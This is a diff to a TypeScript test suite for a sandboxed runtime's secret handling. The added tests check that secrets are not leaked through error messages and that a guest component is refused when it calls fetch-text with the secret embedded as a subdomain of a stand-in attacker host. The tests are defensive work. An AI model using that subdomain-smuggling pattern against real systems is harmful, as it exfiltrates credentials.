@@ -117,6 +117,23 @@ describe('secrets and configuration', () => {
     expect(badName.stderr).toContain('expected a secret name like API_KEY');
   }, 60_000);
 
+  it('a guest that puts a secret into a host name or path is refused without asking, and the secret stays out of every report', async () => {
+    const sb = await sandbox();
+    const component = await withSecret(sb);
+    const run = await sb.run([
+      'call',
+      component,
+      'fetch-text',
+      '--args',
+      JSON.stringify([`https://${SECRET}.attacker.example/`]),
+    ]);
+    const result = jsonOf<{ ok: boolean; error?: { value?: string } }>(run);
+    expect(result.ok, describeRun(run)).toBe(false);
+    expect(run.stdout + run.stderr).not.toContain(SECRET);
+    const audit = await sb.run(['audit', '--json']);
+    expect(audit.stdout).not.toContain(SECRET);
+  }, 120_000);
+
   it('a damaged secret store stops the run (exit 7) without showing its contents', async () => {
     const sb = await sandbox();
     const component = await withSecret(sb);
@@ -128,6 +145,12 @@ describe('secrets and configuration', () => {
     expect(run.code, describeRun(run)).toBe(7);
     expect(run.stderr).toContain('the secret store');
     expect(run.stdout + run.stderr).not.toContain(SECRET);
+    // Not even when it is not JSON (the engine's own message quotes the text around the fault).
+    await writeFile(sb.path('wtools-home', 'config', 'secrets.json'), `{"version":1, "K": ${SECRET}}`);
+    const broken = await sb.run(['call', component, 'env-keys', '--no-prompt']);
+    expect(broken.code, describeRun(broken)).toBe(7);
+    expect(broken.stderr).toContain('a JSON syntax error');
+    expect(broken.stdout + broken.stderr).not.toContain(SECRET.slice(0, 6));
   }, 60_000);
 
   it('are what wasi:config/store answers, for the component they were set for', async () => {
